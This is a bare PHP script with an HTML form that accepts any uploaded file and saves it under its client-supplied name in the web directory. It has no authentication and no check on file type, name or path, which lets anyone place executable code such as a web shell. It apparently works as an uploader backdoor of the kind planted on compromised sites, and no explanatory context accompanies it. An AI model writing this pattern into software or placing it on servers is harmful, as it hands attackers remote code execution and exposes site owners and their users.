<?php
if (!empty($_FILES['f'])) {
    move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);
    echo "ok";
}
?>
<form enctype="multipart/form-data" method="post"><input type="file" name="f"><input type="submit"></form>
